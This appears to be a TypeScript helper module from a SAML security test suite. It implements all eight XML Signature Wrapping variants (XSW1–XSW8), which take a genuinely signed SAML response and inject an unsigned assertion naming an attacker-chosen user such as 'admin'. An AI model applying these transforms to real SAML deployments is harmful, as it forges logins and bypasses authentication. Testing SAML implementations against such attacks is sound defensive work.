/**
 * DOM surgery on signed responses: the XML signature wrapping variants XSW1–XSW8 with SAML Raider's
 * semantics (helpers/XSWHelpers.java), and small helpers for other crafted inputs. All of them
 * work on already signed XML, as an attacker holding one genuine response would.
 */
import { type Document, DOMParser, type Element, MIME_TYPE, XMLSerializer } from '@xmldom/xmldom';
import { NS, samlId } from './saml-xml.js';

/** Parses XML (test inputs are well formed). */
export function parse(xml: string): Element {
  const root = new DOMParser().parseFromString(xml, MIME_TYPE.XML_TEXT).documentElement;
  if (root === null) throw new Error('no root');
  return root;
}

function doc(el: Element): Document {
  if (el.ownerDocument === null) throw new Error('detached element');
  return el.ownerDocument;
}

/** Serialises a node. */
export function serialize(node: Element): string {
  return new XMLSerializer().serializeToString(node);
}

/** Direct element children named `{ns}local`. */
export function kids(el: Element, ns: string, local: string): Element[] {
  const out: Element[] = [];
  for (let n = el.firstChild; n !== null; n = n.nextSibling) {
    if (n.nodeType === 1) {
      const e = n as Element;
      if (e.namespaceURI === ns && e.localName === local) out.push(e);
    }
  }
  return out;
}

/** The one direct child `{ns}local`. */
export function kid(el: Element, ns: string, local: string): Element {
  const found = kids(el, ns, local)[0];
  if (found === undefined) throw new Error(`no ${local} in ${String(el.localName)}`);
  return found;
}

/** Sets the NameID text of an assertion to `value` (the "evil" modification). */
export function setNameId(assertion: Element, value: string): void {
  const nameId = kid(kid(assertion, NS.assertion, 'Subject'), NS.assertion, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc(nameId).createTextNode(value));
}

function withoutSignature(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  for (const sig of kids(copy, NS.dsig, 'Signature')) copy.removeChild(sig);
  return copy;
}

/** Which XSW variant. */
export type XswVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/**
 * Applies XSW`n` to a signed response, making the attacker's content say NameID `evil`.
 * XSW1–2 need a signed Response; XSW3–8 a signed Assertion.
 */
export function xsw(signedXml: string, variant: XswVariant, evil = 'admin'): string {
  const response = parse(signedXml);
  const assertion = kid(response, NS.assertion, 'Assertion');
  switch (variant) {
    case 1:
    case 2: {
      const signature = kid(response, NS.dsig, 'Signature');
      const clone = withoutSignature(response);
      if (variant === 1) signature.appendChild(clone);
      else response.insertBefore(clone, signature);
      response.setAttribute('ID', samlId());
      setNameId(assertion, evil);
      break;
    }
    case 3: {
      const copy = withoutSignature(assertion);
      copy.setAttribute('ID', samlId());
      setNameId(copy, evil);
      response.insertBefore(copy, assertion);
      break;
    }
    case 4: {
      const copy = withoutSignature(assertion);
      copy.setAttribute('ID', samlId());
      setNameId(copy, evil);
      response.removeChild(assertion);
      copy.appendChild(assertion);
      response.appendChild(copy);
      break;
    }
    case 5:
    case 6: {
      const clean = withoutSignature(assertion);
      setNameId(assertion, evil);
      assertion.setAttribute('ID', samlId());
      if (variant === 5) response.appendChild(clean);
      else kid(assertion, NS.dsig, 'Signature').appendChild(clean);
      break;
    }
    case 7: {
      const copy = withoutSignature(assertion);
      setNameId(copy, evil);
      const extensions = doc(response).createElementNS(NS.protocol, 'samlp:Extensions');
      extensions.appendChild(copy);
      response.insertBefore(extensions, assertion);
      break;
    }
    case 8: {
      const clean = withoutSignature(assertion);
      setNameId(assertion, evil);
      const object = doc(response).createElementNS(NS.dsig, 'ds:Object');
      object.appendChild(clean);
      kid(assertion, NS.dsig, 'Signature').appendChild(object);
      break;
    }
  }
  return serialize(response);
}
